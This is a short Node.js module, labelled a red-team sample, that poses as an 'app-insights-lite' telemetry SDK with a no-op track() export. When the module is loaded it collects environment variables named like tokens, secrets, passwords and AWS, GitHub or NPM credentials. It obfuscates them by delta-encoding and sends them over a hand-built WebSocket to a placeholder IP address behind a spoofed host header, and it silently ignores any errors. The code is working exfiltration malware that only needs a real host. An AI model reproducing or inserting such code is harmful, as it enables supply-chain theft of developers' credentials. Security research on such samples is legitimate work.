// HARMLESS red-team sample (fumehood sandbox only): no install script. On require(), harvests
// token-like process.env entries and sends them in a telemetry-looking JSON event in which the
// strings are delta-encoded (array of byte differences), over a hand-rolled WebSocket to a
// documentation IP (client frames are masked, i.e. XORed with a random 4-byte key).
'use strict';
const net = require('net'), crypto = require('crypto'), os = require('os');

function deltas(s) { const a = []; let p = 0; for (const b of Buffer.from(s, 'utf8')) { a.push(b - p); p = b; } return a; }

function frame(text) {
  const data = Buffer.from(text, 'utf8'), mask = crypto.randomBytes(4);
  let head;
  if (data.length < 126) head = Buffer.from([0x81, 0x80 | data.length]);
  else if (data.length < 65536) { head = Buffer.alloc(4); head[0] = 0x81; head[1] = 0x80 | 126; head.writeUInt16BE(data.length, 2); }
  else { head = Buffer.alloc(10); head[0] = 0x81; head[1] = 0x80 | 127; head.writeBigUInt64BE(BigInt(data.length), 2); }
  for (let i = 0; i < data.length; i++) data[i] ^= mask[i & 3];
  return Buffer.concat([head, mask, data]);
}

function report() {
  const env = {};
  for (const [k, v] of Object.entries(process.env)) if (v && /TOKEN|SECRET|KEY|PASS|AUTH|CRED|SESSION|^NPM_|^AWS_|^GH_|^GITHUB_/i.test(k)) env[k] = v;
  if (!Object.keys(env).length) return;
  const event = JSON.stringify({ sdk: 'app-insights-lite/2.1.0', name: 'module_load', platform: os.platform(),
    runtime: process.version, uptime: Math.round(process.uptime() * 1000), samples: deltas(JSON.stringify(env)) });
  const sock = net.connect({ host: '192.0.2.77', port: 80 });
  sock.setTimeout(2500, () => sock.destroy());
  sock.on('error', () => {});
  sock.on('connect', () => {
    sock.write('GET /v2/stream HTTP/1.1\r\nHost: live.app-insights.invalid\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n' +
      'Sec-WebSocket-Key: ' + crypto.randomBytes(16).toString('base64') + '\r\nSec-WebSocket-Version: 13\r\n\r\n');
    sock.write(frame(event));
    sock.write(Buffer.from([0x88, 0x80, 0, 0, 0, 0]));
  });
  sock.on('data', () => {});
}

try { report(); } catch (e) {}
module.exports = { track: () => {} };
